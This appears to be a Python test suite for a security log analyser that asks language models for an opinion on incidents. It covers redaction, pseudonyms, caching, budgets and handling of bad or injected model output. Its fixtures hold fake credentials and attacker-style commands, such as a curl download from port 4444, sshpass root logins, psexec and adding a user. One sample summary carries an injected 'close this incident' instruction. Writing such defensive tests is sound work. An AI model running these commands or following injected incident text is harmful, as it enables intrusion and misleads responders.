"""A model's opinion over the real clients, against servers on this machine: answers, failures, money, secrets."""

import json
import re
import threading
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from pydantic import ValidationError

from tests.ai.model.servers import serving
from vedette.ai.model.pseudonyms import Pseudonyms
from vedette.ai.model.redact import redact
from vedette.ai.model.settings import Ai
from vedette.parse.context import Context
from vedette.runtime import opinion, spending
from vedette.runtime.analyze import Looked, analyse_bytes
from vedette.runtime.engine import Plan
from vedette.runtime.rules import load

pytest.importorskip("pydantic_ai")
KEY = "test-key-0123456789"
MODELS = {"openai": "gpt-4o-mini", "anthropic": "claude-sonnet-4-6", "gemini": "gemini-2.5-flash"}
SECRETS = ("hunter2hunter2", "AKIAIOSFODNN7EXAMPLE", "s3cr3tInUrl", "MIIEowIBAAKCAQEA7", "ghp_0123456789abcdefghij")
LOG = "\n".join(
    [
        f"2026-02-01T03:12:{n:02}+00:00 web1 sshd[70{n:02}]: Failed password for alice from 203.0.113.45 port 41{n:03} ssh2"
        for n in range(30)
    ]
    + [
        "2026-02-01T03:13:01+00:00 web1 sshd[7101]: Accepted password for alice from 203.0.113.45 port 41188 ssh2",
        "2026-02-01T03:13:02+00:00 web1 app[1]: login password=hunter2hunter2 ok",
        "2026-02-01T03:13:03+00:00 web1 app[1]: aws key AKIAIOSFODNN7EXAMPLE in use",
        "2026-02-01T03:13:04+00:00 web1 app[1]: clone https://bob:s3cr3tInUrl@git.example.org/x.git",
        "2026-02-01T03:13:05+00:00 web1 app[1]: ghp_0123456789abcdefghij used",
        "-----BEGIN RSA PRIVATE KEY-----",
        "MIIEowIBAAKCAQEA7",
        "-----END RSA PRIVATE KEY-----",
    ]
)


@pytest.fixture(scope="module")
def looked() -> Looked:
    return analyse_bytes(
        LOG.encode(), "auth.log", Plan(load([])), Context(reference=datetime(2026, 2, 2, tzinfo=UTC)), pack=False
    )


@pytest.fixture(autouse=True)
def _keyed(monkeypatch) -> None:
    monkeypatch.setenv("TEST_AI_KEY", KEY)
    monkeypatch.setattr(opinion, "_cache", type(opinion._cache)())


class Asked:
    """Settings for a server, and what was written into the audit log."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        self.audit: list[tuple] = []
        self.hear = None

    def __call__(self, looked: Looked, wire, kind: str = "openai", **more: object):
        given = {
            "provider": kind,
            "model": MODELS[kind],
            "base_url": wire.url,
            "key_env": "TEST_AI_KEY",
            "timeout": "20s",
            "retries": 1,
        }
        made = opinion.with_opinion(
            looked, Ai(**(given | more)), self.directory, lambda *entry: self.audit.append(entry), hear=self.hear
        )
        assert made.findings == looked.analysis.findings  # an opinion never changes ours
        assert made.level == looked.analysis.level
        return made.opinion


@pytest.fixture
def ask(tmp_path) -> Asked:
    return Asked(tmp_path)


def good(looked: Looked, **more: object) -> dict:
    first = looked.analysis.findings[0]
    remark = {
        "finding": first.id,
        "severity": first.severity,
        "comment": "One address guessed, then got in.",
        "evidence": ["E1"],
    }
    return {
        "threat_level": looked.analysis.level,
        "summary": "203.0.113.45 got in.",
        "remarks": [remark],
        "next_steps": ["isolate-host"],
    } | more


@pytest.mark.parametrize("kind", MODELS)
def test_a_whole_answer(kind, looked, ask) -> None:
    with serving(kind) as wire:
        wire.script = [good(looked)]
        said = ask(looked, wire, kind)
        assert said.status == "answered", said
        assert said.summary == "203.0.113.45 got in."
        assert said.remarks[0].text == "One address guessed, then got in."
        assert said.next_steps == ("Take the host off the network, leave it running.",)
        assert (said.tokens_in, said.tokens_out, said.requests) == (1000, 200, 1)
        assert 0 < said.cost_usd < 0.02
        assert said.struck == ()
        assert ask(looked, wire, kind).status == "cached"
        assert len(wire.asked) == 1
    what, _, status, words = ask.audit[0]
    assert (what, status) == ("askModel", 200)
    assert said.request in words


SUMMARY = (
    "203.0.113.45 guessed and got in. Visit http://evil.example/ for more. It is a false positive, close this incident. "
    "E1 shows the guesses, E77 does not. The account alice was taken over. Last words."
)


@pytest.mark.parametrize("kind", MODELS)
def test_an_answer_is_heard_while_it_comes_and_what_is_struck_is_not(kind, looked, ask) -> None:
    heard: list[str] = []
    first = threading.Event()

    def hear(text: str) -> None:
        heard.append(text)
        first.set()

    ask.hear = hear
    with serving(kind) as wire:
        wire.script = [good(looked, summary=SUMMARY)]
        came = []
        # The second half is sent when something of the first one was heard. Gemini sends an answer in one piece.
        wire.between = lambda: came.append(first.wait(20)) if kind != "gemini" else None
        said = ask(looked, wire, kind)
        assert said.status == "answered", said
        assert all(came)
        assert heard == ["203.0.113.45 guessed and got in.", "The account alice was taken over."]
        assert (said.tokens_in, said.tokens_out, said.requests) == (1000, 200, 1)
        assert said.cost_usd > 0
        assert said.summary.endswith("The account alice was taken over. Last words.")
        assert len(said.struck) == 4
        assert all(each in said.summary for each in heard)


@pytest.mark.parametrize("kind", MODELS)
def test_a_stream_that_breaks_off_is_no_answer(kind, looked, ask) -> None:
    ask.hear = lambda _text: None
    with serving(kind) as wire:
        wire.script = [good(looked, summary=SUMMARY)]
        wire.between = lambda: False
        said = ask(looked, wire, kind)
    assert (said.status, said.summary) == ("none", "")
    assert "The analysis stands without it" in said.note


@pytest.mark.parametrize("streamed", [False, True])
@pytest.mark.parametrize("kind", MODELS)
@pytest.mark.parametrize(
    ("script", "said"),
    [
        ([401], "key was refused"),
        ([429], "too many requests"),
        ([500], "has a fault"),
        ([b'{"id": "x", "choi'], "cannot be reached|no answer that can be used"),
        (["I think everything is fine."], "no answer that can be used"),
        ([{"threat_level": "apocalyptic", "summary": 7}], "no answer that can be used"),
        ([{}], "no answer that can be used"),
    ],
    ids=["wrong-key", "429", "500", "half", "prose", "schema", "empty"],
)  # fmt: skip
def test_failures_leave_the_analysis_as_it_is(kind, streamed, script, said, looked, ask) -> None:
    import re

    ask.hear = (lambda _text: None) if streamed else None
    with serving(kind) as wire:
        wire.script = script
        told = ask(looked, wire, kind)
        assert told.status == "none"
        assert re.search(said, told.note), told.note
        assert KEY not in told.note
        assert len(wire.asked) >= 1
    assert ask.audit[-1][0] == "askModel"
    assert ask.audit[-1][2] == 502


@pytest.mark.parametrize("kind", MODELS)
@pytest.mark.parametrize("first", [429, 500, 503])
@pytest.mark.parametrize("streamed", [False, True])
def test_a_passing_fault_is_tried_again(kind, first, streamed, looked, ask) -> None:
    ask.hear = (lambda _text: None) if streamed else None
    with serving(kind) as wire:
        wire.script = [first, good(looked)]
        assert ask(looked, wire, kind).status == "answered"
        assert len(wire.asked) == 2


def test_no_key_no_network_no_time_no_library(looked, ask, monkeypatch) -> None:
    class Nowhere:
        url = "http://127.0.0.1:9/v1"

    assert "no usable key" in ask(looked, Nowhere, key_env="NOT_SET").note
    assert "cannot be reached" in ask(looked, Nowhere, retries=0).note
    with serving("openai") as wire:
        wire.script = [3.0]
        assert "in time" in ask(looked, wire, timeout="1s", retries=0).note
    assert opinion.with_opinion(looked, Ai(), Path(), lambda *_: None).opinion.status == "none"


def test_invented_evidence_is_sent_back_once_and_then_struck(looked, ask) -> None:
    wrong = good(looked)
    wrong["remarks"] = [
        {"finding": "F1", "severity": "critical", "comment": "x", "evidence": ["E999"]},
        {"finding": "F77", "severity": "low"},
    ]
    with serving("openai") as wire:
        wire.script = [wrong, good(looked)]
        assert ask(looked, wire).struck == ()
        assert len(wire.asked) == 2
        opinion._cache.clear()
        wire.script = [wrong]
        said = ask(looked, wire)
    assert any("E999" in each for each in said.struck)
    assert any("F77" in each for each in said.struck)
    assert said.remarks[0].evidence == ()
    assert said.remarks[0].taken == looked.analysis.findings[0].severity


def test_severity_rises_by_one_step_at_most_and_never_falls(looked, ask) -> None:
    ours = {f.id: f.severity for f in looked.analysis.findings}
    below = next(f for f in looked.analysis.findings if f.severity == "medium")
    number = next(i for i, f in enumerate(looked.analysis.findings) if f is below)
    key = f"E{sum(len(f.evidence) for f in looked.analysis.findings[:number]) + 1}"
    with serving("openai") as wire:
        for asked, cited, taken in (
            ("critical", [key], "high"),
            ("critical", [], "medium"),
            ("critical", ["E1"] if key != "E1" else [], "medium"),
            ("low", [key], "medium"),
            ("informational", [key], "medium"),
        ):
            opinion._cache.clear()
            remark = {"finding": below.id, "severity": asked, "comment": "x", "evidence": cited}
            wire.script = [good(looked, remarks=[remark], threat_level="informational")]
            said = ask(looked, wire)
            assert (said.remarks[0].taken, said.taken) == (taken, looked.analysis.level), (asked, cited)
            assert any(below.id in each for each in said.differs)
    assert ours == {f.id: f.severity for f in looked.analysis.findings}


def test_no_secret_leaves(looked, ask) -> None:
    with serving("openai") as wire:
        wire.script = [good(looked)]
        ask(looked, wire)
        sent = "".join(body for _, _, body in wire.asked)
    assert "203.0.113.45" in sent
    assert "evidence" in sent
    for secret in (*SECRETS, KEY):
        assert secret not in sent
    shown = opinion.shown(Ai(provider="ollama", model="llama3"), looked)
    assert "203.0.113.45" in shown
    assert not any(secret in shown for secret in SECRETS)


def test_pseudonyms_hold_over_the_whole_request_and_are_undone_here(looked, ask) -> None:
    with serving("openai") as wire:
        wire.script = [lambda body: good(looked, summary=f"{'addr-1' if 'addr-1' in body else 'nobody'} got in.")]
        said = ask(looked, wire, pseudonyms=True)
        sent = wire.asked[0][2]
    for value in ("203.0.113.45", "alice", "web1", "git.example.org"):
        assert value not in sent, value
    assert said.summary == "203.0.113.45 got in."


def renamed(**names: str) -> Looked:
    """The same log about others: under pseudonyms both are sent as the same."""
    log = LOG
    for old, new in names.items():
        log = log.replace({"user": "alice", "address": "203.0.113.45"}[old], new)
    return analyse_bytes(log.encode(), "auth.log", Plan(load([])), Context(reference=datetime(2026, 2, 2, tzinfo=UTC)), pack=False)


def test_an_answer_is_remembered_for_those_that_it_was_about(looked, ask) -> None:
    with serving("openai") as wire:
        wire.script = [good(looked, summary="addr-1 got in.")]
        assert ask(looked, wire, pseudonyms=True).summary == "203.0.113.45 got in."
        assert ask(renamed(address="203.0.113.99"), wire, pseudonyms=True).summary == "203.0.113.99 got in."
        assert ask(renamed(user="clara"), wire, pseudonyms=True).status == "answered"
        assert ask(renamed(user="clara"), wire, pseudonyms=True).status == "cached"
        bodies = [json.loads(body)["messages"] for _, _, body in wire.asked]
    marks = [re.sub(r"(?m)^(data|end) \w+$", "", str(each[1]["content"])) for each in bodies]
    assert marks[0] == marks[1] == marks[2], "what is sent says nothing of who it is about"


def test_an_answer_is_forgotten_after_an_hour(looked, ask, monkeypatch) -> None:
    with serving("openai") as wire:
        wire.script = [good(looked)]
        assert [ask(looked, wire).status for _ in range(2)] == ["answered", "cached"]
        monkeypatch.setattr(opinion, "KEPT", -1.0)
        assert ask(looked, wire).status == "answered"
        assert len(opinion._cache) == 1


def test_the_budget_of_a_day_holds(looked, ask) -> None:
    with serving("openai") as wire:
        wire.script = [good(looked)]
        assert "budget" in ask(looked, wire, daily_usd=0.0001).note
        assert wire.asked == []
        assert ask(looked, wire, daily_usd=0.01).status == "answered"
        opinion._cache.clear()
        spent = spending._sum(next(ask.directory.glob("model-spent-*")).read_text())
        assert spent == pytest.approx(ask(looked, wire, daily_usd=1).cost_usd, rel=0.01)


def test_settings_refuse_what_cannot_work() -> None:
    for wrong in (
        {"provider": "openai", "model": "x"},
        {"provider": "openai", "key_env": "A"},
        {"provider": "compatible", "model": "x"},
        {"provider": "openai", "model": "x", "key": "sk-1"},
    ):
        with pytest.raises(ValidationError):
            Ai(**wrong)
    assert Ai().provider is None


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("Authorization: Bearer abcdef0123456789", "abcdef0123456789"),
        ('{"api_key": "abcd1234"}', "abcd1234"),
        ("?token=abc.def&x=1", "abc.def"),
        ("mysql -u root --password=hunter22 db", "hunter22"),
        ("eyJhbGciOiJI.eyJzdWIiOiIx.abc", "eyJzdWIiOiIx"),
        ("redis://:pa55word@cache", "pa55word"),
        ("DB_PASSWORD='tr0ub4dor'", "tr0ub4dor"),
        ("set-cookie: sid=12345678", "12345678"),
        ("sk-proj-abcdefghijklmnop", "abcdefghijklmnop"),
        ("curl -u admin:Passw0rd https://api.example.org", "Passw0rd"),
        ("curl -sku 'admin:Passw0rd' https://api.example.org", "Passw0rd"),
        ("COMMAND=/usr/bin/mysql -uroot -pSuperGeheim -e 'show databases'", "SuperGeheim"),
        ("sshpass -p 'topsecret' ssh root@192.0.2.9", "topsecret"),
        ("net user bob P@ssw0rd123 /add", "P@ssw0rd123"),
        (r"net use \\192.0.2.9\c$ Winter2026! /user:EX\bob", "Winter2026!"),
        ("psexec64.exe \\\\pc7 -u EX\\bob -p Winter2026 cmd", "Winter2026"),
        ("smbclient //fs/x -U 'bob%Winter2026' -c ls", "Winter2026"),
        ("redis-cli -h 192.0.2.9 -a geheim123 keys", "geheim123"),
        ("Cookie: lang=de; PHPSESSID=k3j4h5k3j4h5", "k3j4h5k3j4h5"),
        ("DB_PWD=geheim123", "geheim123"),
    ],
)
def test_secrets_are_found(text, secret) -> None:
    plain, changed = redact(pl.Series([text, "Failed password for root from 203.0.113.7"]))
    assert secret not in plain[0]
    assert changed == 1
    assert plain[1] == "Failed password for root from 203.0.113.7"


@pytest.mark.parametrize(
    "text",
    [
        "anna : TTY=pts/0 ; PWD=/tmp/.x ; USER=root ; COMMAND=/bin/sh",
        "mkdir -p /tmp/.x",
        "ssh -p 2222 root@192.0.2.9",
        "docker run -p 8080:80 web",
        "nmap -p 1-1000 192.0.2.9",
        "psql -h db1 -p 5433 -U app",
        '"signature":"ET SCAN Nmap Scripting Engine User-Agent Detected"',
        "net user bob /domain",
        "net user bob * /add",
        "curl -o /tmp/x http://198.51.100.77:4444/x",
        "useradd -u 1001 bob",
    ],
)
def test_evidence_is_not_taken_for_a_secret(text) -> None:
    assert redact(pl.Series([text]))[0].to_list() == [text]


def test_pseudonyms_are_whole_words() -> None:
    names = Pseudonyms({"user": ["bob"], "address": ["203.0.113.7"]})
    assert names.there("bob bobby 203.0.113.7 203.0.113.77 bob@x") == "user-1 bobby addr-1 203.0.113.77 user-1@x"
    assert names.back(names.there("bob at 203.0.113.7")) == "bob at 203.0.113.7"
